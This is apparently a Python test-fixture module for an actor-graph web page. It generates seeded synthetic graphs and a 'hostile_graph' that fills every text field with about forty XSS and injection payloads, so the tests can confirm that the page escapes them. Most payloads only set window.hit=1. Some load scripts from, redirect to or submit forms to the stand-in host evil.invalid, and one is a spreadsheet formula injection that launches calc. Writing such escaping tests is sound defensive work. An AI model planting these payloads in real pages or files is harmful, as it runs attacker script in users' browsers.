"""Actor graphs of any size for the page: invented, the same for the same size."""

import random

import networkx as nx
from hand_graph import graph_of

from kg.graph.schema import ActorGraph

__all__ = ["XSS", "generated_graph", "hostile_graph"]

RELATIONS = ("consults", "accuses", "supports", "assaults", "mediates", "sanctions", "says")
STATUSES = (("positive", "actual"),) * 6 + (
    ("positive", "future"),
    ("negative", "actual"),
    ("positive", "hedged"),
)

XSS = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    '"><svg onload=window.hit=1>',
    "</script><script>window.hit=1</script>",
    "<!--<script>window.hit=1//-->",
    "javascript:window.hit=1",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "href <a href=javascript:window.hit=1>x</a>",
    "<style>@import 'http://evil.invalid/x'</style>",
    "\u202e<b>evil</b>\u2066",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "';window.hit=1;'",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "]]><script>window.hit=1</script>",
    "<a onclick=window.hit=1>click</a>",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<object data=javascript:window.hit=1>",
    "<base href=http://evil.invalid/>",
    "<meta http-equiv=refresh content=0;url=http://evil.invalid/>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<form action=http://evil.invalid><input type=submit>",
    "\x00<script>window.hit=1</script>",
    "=cmd|'/c calc'!A0",
    "<video><source onerror=window.hit=1>",
    "<marquee onstart=window.hit=1>",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "data:text/html,<script>window.hit=1</script>",
    "<svg><script>window.hit=1</script></svg>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "\u2028window.hit=1\u2029",
    "<x contenteditable onblur=window.hit=1>",
    "<script src=//evil.invalid/x.js></script>",
    "<embed src=javascript:window.hit=1>",
    "`-window.hit=1-`",
    "\ud83d\ude00<script>window.hit=1</script>",
]
"""Strings that have run as script in one viewer or another."""


def generated_graph(actors: int, statements: int) -> ActorGraph:
    """Return a graph of that size: a few actors with many links, sentences of some length."""
    random_ = random.Random(actors)
    lines = []
    for _ in range(statements):
        subject = int(actors * random_.random() ** 2)
        target = (subject + 1 + int((actors - 1) * random_.random() ** 2)) % actors
        relation = random_.choice(RELATIONS)
        polarity, modality = random_.choice(STATUSES)
        day = (
            f"20{random_.randint(20, 24)}-{random_.randint(1, 12):02}-{random_.randint(1, 28):02}"
        )
        extra = " addressing=about" if relation == "says" else ""
        claim = f" by=a{int(actors * random_.random() ** 2)}" if random_.random() < 0.2 else ""
        lines.append(
            f"a{subject} {relation} a{target} {day} polarity={polarity} modality={modality}{extra}{claim}"
        )
    graph = graph_of(*lines)
    for node in graph:
        graph.nodes[node]["type"] = random_.choice(
            ("person", "government", "agency", "armed_group")
        )
    return graph


def hostile_graph() -> ActorGraph:
    """Return a graph with a hostile string in every field that news text reaches."""
    graph = graph_of(
        *(
            f"a{n} says a{(n + 1) % len(XSS)} 2024-01-01 addressing=to by=a{(n + 2) % len(XSS)}"
            for n in range(len(XSS))
        )
    )
    documents = graph.graph["documents"]
    for number, payload in enumerate(XSS):
        document = documents[f"d{number}"]
        document.update(title=payload, publisher=payload, author=payload, url=payload)
        document.update(length=len(payload), sentences=[(0, len(payload), payload)])
        node = graph.nodes[f"a{number}"]
        node.update(name=payload, aliases=[payload], wikidata="")
        node["roles"] = [
            {
                "title": payload,
                "organization": "a0",
                "ended": False,
                "first": "",
                "last": "",
                "documents": 1,
            }
        ]
    for *_, data in graph.edges(data=True):
        data.update(title=XSS[0], publishers=[XSS[1]])
        number = int(data["evidence"][0]["doc"][1:])
        payload = XSS[number]
        data["evidence"][0].update(
            end=len(payload),
            subject=[0, 2],
            cue=[1, 3],
            content=[[0, len(payload)]],
            rule=payload,
            place=payload,
            event_text=payload,
            act=payload,
            kind=payload,
        )
    renamed = {node: f"{node}{XSS[int(node[1:])]}" for node in graph}
    hostile = nx.relabel_nodes(graph, renamed)
    for *_, data in hostile.edges(data=True):
        data["attribution"] = [renamed[one] for one in data["attribution"]]
        data["attributed_to"] = renamed[data["attributed_to"]]
    for node in hostile:
        hostile.nodes[node]["roles"][0]["organization"] = renamed["a0"]
    return hostile
